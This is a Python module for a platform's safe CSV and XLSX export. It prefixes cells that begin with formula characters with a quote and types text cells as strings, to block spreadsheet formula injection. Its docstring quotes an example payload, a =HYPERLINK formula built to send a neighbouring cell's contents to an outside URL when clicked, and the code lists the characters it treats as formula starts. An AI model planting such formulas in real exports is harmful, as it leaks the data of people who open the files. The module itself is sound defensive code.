"""The safe spreadsheet cell writer: every cell of every CSV and XLSX file the platform produces
is written here (invariant 6 of ARCHITECTURE.md).

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@``, and
some treat a leading tab or carriage return the same way (OWASP, "CSV Injection"). A child's open
answer ``=HYPERLINK("http://…?leak="&B2, "klik")`` would become a live link that sends the
neighbouring cell away when the officer clicks it. So every text is *neutralised*: when it starts
with one of those characters, also after leading whitespace that a spreadsheet may trim, or with
their full-width forms (＝ ＋ － ＠, which some spreadsheet programs read as the ASCII ones), it is
written with a single quote in front. The quote is what a spreadsheet user types to enter a text
that looks like a formula; the text stays readable and stays text when the XLSX file is edited
or saved again as CSV.

Real numbers (``int``, ``float``, ``Decimal``), dates and times are not text: they stay numbers
and dates (native cells in XLSX, their plain representation in CSV). A negative number is a
number, never a formula.

In XLSX every text cell is also typed as a string explicitly: openpyxl would otherwise store a
text that starts with ``=`` as a formula and one such as ``#N/A`` as an error. Control characters
that XLSX cannot hold are dropped.

Use :class:`SafeCsvWriter` or :func:`csv_stream` for CSV and :class:`SafeWorkbook` for XLSX;
nothing else in the project imports ``openpyxl`` or writes CSV (tests/core/test_spreadsheets.py
checks the code for it).
"""

import csv
import datetime
from decimal import Decimal

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

__all__ = ["Font", "SafeCsvWriter", "SafeSheet", "SafeWorkbook", "csv_stream", "csv_value", "neutralise", "xlsx_value"]

#: characters that make a spreadsheet evaluate a cell when its text starts with one
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: invisible characters a spreadsheet may skip, like whitespace, before it reads the first one
INVISIBLE = frozenset("\ufeff\u200b\u200c\u200d\u2060")
NUMBERS = (int, float, Decimal)  # bool is an int: written as TRUE/FALSE, never evaluated
DATES = (datetime.date, datetime.time)  # datetime.datetime is a date


def _first_shown(text):
    for char in text:
        if not (char.isspace() or char in INVISIBLE):
            return char
    return ""


def neutralise(text):
    """``text``, with a single quote in front when a spreadsheet would evaluate it."""
    text = str(text)
    if text[:1] in FORMULA_STARTS or _first_shown(text) in FORMULA_STARTS:
        return "'" + text
    return text


def _local(value):
    """A date or time without a time zone (spreadsheets have none): local time."""
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)
    if isinstance(value, datetime.time) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value


def csv_value(value):
    """What the CSV file holds for ``value``: numbers as numbers, dates in ISO form, text
    neutralised, nothing as an empty field."""
    if value is None:
        return ""
    if isinstance(value, NUMBERS):
        return value
    if isinstance(value, datetime.datetime):
        return _local(value).isoformat(sep=" ")
    if isinstance(value, DATES):
        return _local(value).isoformat()
    return neutralise(value)


def xlsx_value(value):
    """What an XLSX cell holds for ``value``, and whether it is text: numbers and dates native,
    anything else neutralised text without the control characters XLSX cannot hold."""
    if value is None or isinstance(value, NUMBERS):
        return value, False
    if isinstance(value, DATES):
        return _local(value), False
    return neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value))), True


class _Echo:
    """A file that hands back what is written to it, for streaming one line at a time."""

    def write(self, value):
        return value


class SafeCsvWriter:
    """``csv.writer`` whose every field passes :func:`csv_value`. Without a file, ``writerow``
    returns the line (for a streamed response)."""

    def __init__(self, file=None, **fmtparams):
        self._writer = csv.writer(file if file is not None else _Echo(), **fmtparams)

    def writerow(self, row):
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_stream(rows, *, bom=True):
    """The lines of a CSV file of ``rows``, one at a time (for ``StreamingHttpResponse``). The
    byte order mark, on by default, makes spreadsheet programs read the file as UTF-8."""
    writer = SafeCsvWriter()
    if bom:
        yield "\ufeff"
    for row in rows:
        yield writer.writerow(row)


class SafeSheet:
    """One worksheet; rows are added only through :meth:`append`."""

    def __init__(self, worksheet):
        self._worksheet = worksheet

    @property
    def title(self):
        return self._worksheet.title

    def set_column_widths(self, widths):
        """Widths of the first columns, in characters (before the first row in write-only mode)."""
        for index, width in enumerate(widths, start=1):
            self._worksheet.column_dimensions[get_column_letter(index)].width = width

    def append(self, values, *, font=None, number_formats=None):
        """Add one row. ``font`` applies to every cell of it, ``number_formats`` maps a column
        (1-based) to a number format, such as ``"0.0%"``."""
        number_formats = number_formats or {}
        cells = []
        for column, value in enumerate(values, start=1):
            if isinstance(value, Cell):
                raise TypeError("Pass values, not openpyxl cells: every cell is written by the safe writer.")
            value, is_text = xlsx_value(value)
            cell = Cell(self._worksheet, row=1, column=column, value=value)  # append places it
            if is_text:
                cell.data_type = TYPE_STRING  # never a formula, never an error value
            if font is not None:
                cell.font = font
            if column in number_formats:
                cell.number_format = number_formats[column]
            cells.append(cell)
        self._worksheet.append(cells)


class SafeWorkbook:
    """An XLSX workbook whose sheets write every cell through :class:`SafeSheet`. ``write_only``
    is openpyxl's streaming mode (rows go to a temporary file as they are added)."""

    def __init__(self, *, write_only=False):
        self._workbook = Workbook(write_only=write_only)
        if not write_only:
            self._workbook.remove(self._workbook.active)

    def create_sheet(self, title):
        return SafeSheet(self._workbook.create_sheet(title=title))

    @property
    def sheetnames(self):
        return self._workbook.sheetnames

    def save(self, file):
        self._workbook.save(file)
